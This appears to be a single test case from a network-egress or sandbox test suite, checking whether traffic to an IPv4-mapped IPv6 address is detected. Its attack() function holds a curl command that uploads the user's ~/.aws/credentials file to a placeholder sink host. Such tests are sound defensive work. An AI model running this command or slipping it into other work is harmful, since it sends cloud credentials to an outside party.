# SPDX-License-Identifier: Apache-2.0
TITLE="an IPv6 socket to a v4-mapped address"
ROW="N10 E25"
DEST="*$SINK4*"
attack() { curl -s -m 5 --data-binary @"$HOME/.aws/credentials" "http://[::ffff:$SINK4]/"; }
